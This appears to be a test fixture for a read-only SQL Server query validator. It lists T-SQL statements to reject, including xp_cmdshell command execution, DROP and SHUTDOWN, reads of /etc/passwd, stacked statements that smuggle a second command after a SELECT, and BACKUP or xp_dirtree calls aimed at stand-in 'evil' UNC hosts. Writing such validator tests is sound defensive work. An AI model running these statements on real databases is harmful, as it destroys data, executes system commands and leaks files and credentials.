## statements that write, alone
INSERT INTO users VALUES (1)
UPDATE users SET admin = 1
DELETE FROM users
MERGE users AS t USING x AS s ON t.id = s.id WHEN MATCHED THEN DELETE;
TRUNCATE TABLE users
DROP TABLE users
CREATE TABLE x (a int)
ALTER TABLE users ADD x int
ALTER LOGIN sa ENABLE
CREATE LOGIN x WITH PASSWORD = 'y'
GRANT CONTROL TO x
BACKUP DATABASE app TO DISK = '\\\\evil\\x.bak'
RESTORE DATABASE app FROM DISK = 'x'
BULK INSERT users FROM '/etc/passwd'
EXEC xp_cmdshell 'whoami'
EXEC master..xp_cmdshell 'whoami'
EXECUTE sp_configure 'xp_cmdshell', 1
EXEC sp_executesql N'DROP TABLE users'
EXEC ('DROP TABLE users')
EXEC sp_OACreate 'wscript.shell', @x OUT
EXEC xp_dirtree '\\\\evil.example\\x'
EXEC xp_regread 'HKEY_LOCAL_MACHINE', 'x'
DECLARE @x varchar(100) = 'x'
SET @x = 1
USE master
WAITFOR DELAY '0:0:10'
SHUTDOWN
KILL 55
DBCC CHECKDB
RECONFIGURE
BEGIN TRANSACTION
COMMIT
PRINT 'x'
IF 1 = 1 DROP TABLE users
WHILE 1 = 1 SELECT 1
## stacked: T-SQL needs no semicolon
SELECT 1; EXEC xp_cmdshell 'whoami'
SELECT 1 EXEC xp_cmdshell 'whoami'
SELECT 1 DROP TABLE users
SELECT * FROM users DELETE FROM users
SELECT 1 WAITFOR DELAY '0:0:10'
SELECT 1; WAITFOR DELAY '0:0:10'
SELECT 1 -- x\nDROP TABLE users
SELECT 1\nDELETE FROM users
SELECT 1 UPDATE users SET admin = 1
SELECT 1\nGO\nDROP TABLE users
SELECT 1 SHUTDOWN
## writes and locks inside queries
SELECT * INTO copy FROM users
SELECT * INTO #copy FROM users
SELECT id INTO tempdb..x FROM users
SELECT * FROM users WITH (UPDLOCK)
SELECT * FROM users WITH (XLOCK, ROWLOCK)
SELECT * FROM users WITH (TABLOCKX, HOLDLOCK)
SELECT @x = password FROM users
SELECT NEXT VALUE FOR s
WITH x AS (SELECT 1 AS a) DELETE FROM x
WITH x AS (SELECT * FROM users) UPDATE x SET admin = 1
## https://learn.microsoft.com/sql/t-sql/functions/openrowset-transact-sql
SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS c
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'SELECT 1') AS c
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'Data Source=evil').db.dbo.t
SELECT * FROM OPENQUERY(linked, 'DELETE FROM users')
SELECT * FROM fn_get_audit_file('\\\\evil.example\\x', DEFAULT, DEFAULT)
SELECT * FROM fn_xe_file_target_read_file('C:\\*.xel', '\\\\evil\\x', NULL, NULL)
SELECT * FROM fn_trace_gettable('\\\\evil\\x.trc', DEFAULT)
SELECT * FROM sys.dm_os_file_exists('C:\\x')
SELECT * FROM sys.dm_exec_sql_text(0x01)
SELECT * FROM sys.fn_dblog(NULL, NULL)
SELECT PWDENCRYPT('x')
SELECT REPLICATE('x', 1000000000)
SELECT SPACE(1000000000)
